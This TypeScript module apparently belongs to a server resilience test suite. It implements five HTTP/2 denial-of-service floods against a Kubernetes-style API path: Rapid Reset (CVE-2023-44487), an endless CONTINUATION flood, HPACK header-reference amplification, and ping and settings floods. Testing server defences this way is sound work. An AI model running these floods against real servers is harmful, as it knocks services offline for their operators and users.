import { flags, frame, frameTypes, header, requestBlock, requestFrame } from './http2-frames.ts';
import { flood, type Http2Peer } from './http2-peer.ts';

/** A flood of frames on one connection, as long as the connection takes it; each is bounded. */
export interface Http2Flood {
  readonly name: string;
  /** Whether the client takes what the server sends. */
  readonly reading: boolean;
  readonly send: (peer: Http2Peer, token: string) => Promise<void>;
}

const path = '/api/v1/namespaces/default/configmaps';
const cancel = Buffer.from([0, 0, 0, 8]);
const someSettings = Buffer.from([0, 3, 0, 0, 0, 100]);

/** Requests that are reset at once (CVE-2023-44487). */
async function sendResets(peer: Http2Peer, token: string): Promise<void> {
  const block = requestBlock('GET', path, token);
  const pieces: Buffer[] = [];
  for (let i = 0; i < 20_000; i++) {
    pieces.push(requestFrame(2 * i + 1, block), frame(frameTypes.reset, 0, 2 * i + 1, cancel));
  }
  for (let i = 0; i < pieces.length; i += 200) await flood(peer, Buffer.concat(pieces.slice(i, i + 200)), 1);
}

/** A request whose headers never end. */
async function sendHeadersWithoutEnd(peer: Http2Peer, token: string): Promise<void> {
  peer.socket.write(frame(frameTypes.headers, flags.endStream, 1, requestBlock('GET', path, token)));
  const fillers = Buffer.concat(Array(100).fill(header('x-filler', 'x'.repeat(100))));
  await flood(peer, frame(frameTypes.continuation, 0, 1, fillers), 2_000);
}

/** Requests that refer to one large header ten thousand times each, in a byte. */
async function sendLargeReferences(peer: Http2Peer, token: string): Promise<void> {
  const block = requestBlock('GET', path, token);
  peer.socket.write(requestFrame(1, Buffer.concat([block, header('x-large', 'x'.repeat(3_000), true)])));
  for (let i = 1; i < 50; i++) {
    peer.socket.write(requestFrame(2 * i + 1, Buffer.concat([block, Buffer.alloc(10_000, 0x80 | 62)])));
  }
}

function sendMany(piece: Buffer): Http2Flood['send'] {
  return (peer) => flood(peer, Buffer.concat(Array(1_000).fill(piece)), 2_000);
}

/** The floods of B91. */
export const http2Floods: readonly Http2Flood[] = [
  { name: 'resets its requests at once', reading: true, send: sendResets },
  { name: 'never ends its headers', reading: true, send: sendHeadersWithoutEnd },
  { name: 'refers to a large header again and again', reading: true, send: sendLargeReferences },
  {
    name: 'sends pings without end and reads nothing',
    reading: false,
    send: sendMany(frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
  },
  {
    name: 'sends settings without end and reads nothing',
    reading: false,
    send: sendMany(frame(frameTypes.settings, 0, 0, someSettings)),
  },
];
